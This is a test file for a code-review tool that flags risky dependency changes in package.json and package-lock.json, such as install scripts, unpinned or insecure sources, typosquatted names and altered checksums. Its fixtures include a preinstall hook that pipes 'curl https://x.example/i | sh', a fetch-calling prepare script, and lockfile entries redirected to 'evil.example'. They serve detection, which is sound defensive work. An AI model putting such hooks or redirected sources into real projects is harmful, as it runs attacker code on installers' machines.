import { describe, expect, it } from 'vitest';
import type { RawChange } from '#agents/contract.ts';
import { analyse } from './analyse.ts';
import { buildChangeSet } from './change-set.ts';
import { popularTwin } from './dependencies/near-names.ts';
import { lowestVersion, satisfies } from './dependencies/versions.ts';

type Manifest = Readonly<Record<string, unknown>>;

function change(path: string, base: Manifest | undefined, head: Manifest): RawChange {
  const bytes = (json: Manifest) => new TextEncoder().encode(`${JSON.stringify(json, undefined, 2)}\n`);
  if (base === undefined) return { path, status: 'added', head: bytes(head) };
  return { path, status: 'modified', base: bytes(base), head: bytes(head) };
}

async function review(...files: readonly RawChange[]) {
  const changeSet = buildChangeSet(files);
  const { findings } = await analyse(changeSet, { families: ['dependencies'] });
  for (const { location } of findings) {
    const changed = changeSet.changes.find(({ path }) => path === location?.path);
    if (location !== undefined) expect(changed?.commentable[location.side].has(location.line)).toBe(true);
  }
  return findings;
}

const lockfile = change('yarn.lock', undefined, {});

async function rulesFor(base: Manifest, head: Manifest) {
  const findings = await review(change('package.json', base, head), lockfile);
  return findings.map(({ rule, severity }) => `${rule.replace('dependency/', '')} ${severity}`);
}

describe('findDependencyChanges in package.json', () => {
  it.each<[string, Manifest, Manifest, string[]]>([
    ['an install script', {}, { scripts: { postinstall: 'node setup.js' } }, ['install-script medium']],
    [
      'an install script that fetches',
      {},
      { scripts: { preinstall: 'curl https://x.example/i | sh' } },
      ['install-script high'],
    ],
    [
      'an install script made worse',
      { scripts: { install: 'node-gyp rebuild' } },
      { scripts: { install: 'node-gyp rebuild && node -e "eval(1)"' } },
      ['install-script high'],
    ],
    [
      'a prepare script that sends the environment',
      {},
      { scripts: { prepare: 'node -e "fetch(\'https://x\')"' } },
      ['install-script high'],
    ],
    [
      'a branch',
      {},
      { dependencies: { internal: 'git+https://github.com/x/internal.git#main' } },
      ['source medium'],
    ],
    ['a short repository name', {}, { dependencies: { internal: 'someone/internal' } }, ['source medium']],
    [
      'a pinned commit',
      {},
      { dependencies: { internal: `github:x/internal#${'a1'.repeat(20)}` } },
      ['source low'],
    ],
    ['an unencrypted tarball', {}, { dependencies: { internal: 'http://x.example/i.tgz' } }, ['source high']],
    [
      'an encrypted tarball',
      {},
      { dependencies: { internal: 'https://x.example/i.tgz' } },
      ['source medium'],
    ],
    ['any version', {}, { dependencies: { zod: '*' } }, ['unpinned medium']],
    ['latest', { dependencies: { zod: '^3.0.0' } }, { dependencies: { zod: 'latest' } }, ['unpinned medium']],
    ['at least', {}, { devDependencies: { vitest: '>=1.0.0' } }, ['unpinned medium']],
    [
      'a downgrade',
      { dependencies: { zod: '^3.22.4' } },
      { dependencies: { zod: '^3.20.0' } },
      ['downgrade medium'],
    ],
    [
      'a major step',
      { dependencies: { zod: '^3.22.4' } },
      { dependencies: { zod: '^4.0.0' } },
      ['major-step low'],
    ],
    [
      'a minor step before 1.0',
      { dependencies: { esbuild: '^0.19.0' } },
      { dependencies: { esbuild: '^0.21.0' } },
      ['major-step low'],
    ],
    [
      'a pre-release',
      { dependencies: { zod: '4.0.0' } },
      { dependencies: { zod: '4.1.0-beta.2' } },
      ['pre-release low'],
    ],
    ['a misspelt name', {}, { dependencies: { expresss: '^4.0.0' } }, ['near-name high']],
    [
      'a workspace name from the registry',
      { dependencies: { '@x/core': 'workspace:*' } },
      { dependencies: { '@x/core': '^1.0.0' } },
      ['confusion high'],
    ],
    ['a package that is given up', {}, { dependencies: { vm2: '^3.9.0' } }, ['deprecated low']],
    ['an override to a branch', {}, { overrides: { minimist: 'github:x/minimist#fix' } }, ['source medium']],
  ])('reports %s', async (_, base, head, rules) => {
    expect(await rulesFor(base, head)).toEqual(rules);
  });

  it.each<[string, Manifest, Manifest]>([
    ['a caret range', {}, { dependencies: { zod: '^4.0.0' } }],
    ['a minor update', { dependencies: { zod: '^4.0.0' } }, { dependencies: { zod: '^4.1.0' } }],
    [
      'harmless install scripts',
      {},
      { scripts: { prepare: 'husky', postinstall: 'patch-package && prisma generate' } },
    ],
    ['an ordinary script', {}, { scripts: { build: 'curl -s https://x.example | node -e 1' } }],
    ['a workspace', {}, { dependencies: { '@x/core': 'workspace:^' } }],
    ['a popular name near another', {}, { dependencies: { preact: '^10.0.0', pino: '^10.0.0' } }],
    [
      'a name that was there before',
      { dependencies: { expresss: '^4.0.0' } },
      { devDependencies: { expresss: '^4.0.0' } },
    ],
    ['an open peer range', {}, { peerDependencies: { react: '>=18' } }],
  ])('passes over %s', async (_, base, head) => {
    expect(await rulesFor(base, head)).toEqual([]);
  });

  it('shows no credentials of a source', async () => {
    const password = 's3cr3t-t0ken';
    const dependencies = { internal: `git+https://bot:${password}@git.corp/internal.git#main` };
    const [finding] = await review(change('package.json', {}, { dependencies }), lockfile);
    expect(finding?.title).toContain('://…@git.corp');
    expect(JSON.stringify(finding)).not.toContain(password);
  });

  it('asks for the lockfile that the repository has and the change leaves alone, and for none that is not there', async () => {
    const changeSet = buildChangeSet([
      change('apps/web/package.json', {}, { dependencies: { zod: '^4.0.0' } }),
      change('tool/package.json', {}, { dependencies: { zod: '^4.0.0' } }),
    ]);
    const found = async (...files: readonly string[]) => {
      const readFile = (path: string) => Promise.resolve(files.includes(path) ? '{}' : undefined);
      const { findings } = await analyse(changeSet, { families: ['dependencies'], readFile });
      return findings.map(({ rule, location }) => `${rule} ${location?.path}`);
    };
    expect(await found()).toEqual([]);
    expect(await found('apps/pnpm-lock.yaml')).toEqual(['dependency/lock-mismatch apps/web/package.json']);
  });

  it('survives manifests that are no JSON objects', async () => {
    const bytes = (text: string) => new TextEncoder().encode(text);
    const files = ['null', '[]', '"x"', '{', '{"dependencies": [1], "scripts": {"install": {}}}'].map(
      (text, index): RawChange => ({ path: `${index}/package.json`, status: 'added', head: bytes(text) }),
    );
    expect(await review(...files)).toEqual([]);
  });
});

describe('findDependencyChanges in package-lock.json', () => {
  const entry = (name: string, version: string, extra: Manifest = {}) => ({
    [`node_modules/${name}`]: {
      version,
      resolved: `https://registry.npmjs.org/${name}/-/${name}-${version}.tgz`,
      integrity: `sha512-${name}${version}`,
      ...extra,
    },
  });
  const lock = (...entries: readonly Manifest[]) => ({
    lockfileVersion: 3,
    packages: Object.assign({ '': {} }, ...entries) as Manifest,
  });
  const known = [entry('a', '1.0.0'), entry('b', '1.0.0')];

  it.each<[string, Manifest, string]>([
    [
      'another host',
      entry('c', '1.0.0', { resolved: 'https://evil.example/c/-/c-1.0.0.tgz' }),
      'lock-source high',
    ],
    [
      'no encryption',
      entry('c', '1.0.0', { resolved: 'http://registry.npmjs.org/c/-/c-1.0.0.tgz' }),
      'lock-source high',
    ],
    [
      'another package',
      entry('lodash', '1.0.0', { resolved: 'https://registry.npmjs.org/evilpkg/-/evilpkg-1.0.0.tgz' }),
      'lock-source high',
    ],
    [
      'a repository',
      entry('c', '1.0.0', { resolved: 'git+ssh://git@github.com/x/c.git#abc' }),
      'lock-source medium',
    ],
    ['an install script', entry('c', '1.0.0', { hasInstallScript: true }), 'install-script medium'],
    ['no checksum', entry('c', '1.0.0', { integrity: undefined }), 'lock-integrity medium'],
    [
      'another checksum of the same version',
      entry('b', '1.0.0', { integrity: 'sha512-other' }),
      'lock-integrity high',
    ],
    ['a checksum removed', entry('b', '1.0.0', { integrity: undefined }), 'lock-integrity high'],
  ])('reports %s', async (_, changed, rule) => {
    const findings = await review(change('package-lock.json', lock(...known), lock(...known, changed)));
    expect(
      findings.map((finding) => `${finding.rule.replace('dependency/', '')} ${finding.severity}`),
    ).toEqual([rule]);
  });

  it('passes over an ordinary update', async () => {
    const updated = lock(entry('a', '1.1.0'), entry('b', '1.0.0'), entry('c', '2.0.0'));
    expect(await review(change('package-lock.json', lock(...known), updated))).toEqual([]);
  });

  it('says nothing of install scripts that the manifest does not allow to run', async () => {
    const scripted = lock(...known, entry('c', '1.0.0', { hasInstallScript: true }));
    const rules = async (allowScripts: Manifest) => {
      const findings = await review(
        change('package.json', {}, { allowScripts }),
        change('package-lock.json', lock(...known), scripted),
      );
      return findings.map(({ rule }) => rule);
    };
    expect(await rules({})).toEqual([]);
    expect(await rules({ c: true })).toContain('dependency/install-script');
  });

  it('compares locked versions with the manifest', async () => {
    const manifest = { dependencies: { a: '^2.0.0' } };
    const findings = await review(
      change('package.json', { dependencies: { a: '^1.9.0' } }, manifest),
      change('package-lock.json', lock(...known), lock(...known, entry('c', '1.0.0'))),
    );
    expect(findings.map(({ title }) => title)).toContain(
      'The lockfile has `a@1.0.0`, which `^2.0.0` does not allow',
    );
  });
});

describe('popularTwin', () => {
  it.each([
    ['expres', 'express'],
    ['lodahs', 'lodash'],
    ['crossenv', 'cross-env'],
    ['react-js', 'react'],
    ['node-lodash', 'lodash'],
    ['rnongoose', 'mongoose'],
    ['l0dash', 'lodash'],
    ['router-react', 'react-router'],
    ['@expres/express', 'express'],
  ])('%s is nearly %s', (name, popular) => {
    expect(popularTwin(name)).toBe(popular);
  });

  it.each([
    'express',
    'ws',
    'koa2',
    'my-own-package',
    '@types/node',
    '@prisma/client',
    'lodash-es',
    'nova',
    'pgx',
  ])('%s is nothing but itself', (name) => {
    expect(popularTwin(name)).toBeUndefined();
  });
});

describe('versions', () => {
  it.each<[string, string, boolean | undefined]>([
    ['1.2.3', '^1.0.0', true],
    ['2.0.0', '^1.0.0', false],
    ['0.3.0', '^0.2.0', false],
    ['1.2.9', '~1.2.3', true],
    ['1.3.0', '~1.2.3', false],
    ['1.0.0', '1.0.0', true],
    ['1.0.0', '>=1 <2', undefined],
    ['1.0.0-beta.1', '^1.0.0', undefined],
  ])('%s in %s: %s', (version, range, expected) => {
    expect(satisfies(version, range)).toBe(expected);
  });

  it.each(['', '*', 'latest', 'x', 'file:../a', 'git+ssh://x'])('%s has no lowest version', (range) => {
    expect(lowestVersion(range)).toBeUndefined();
  });
});
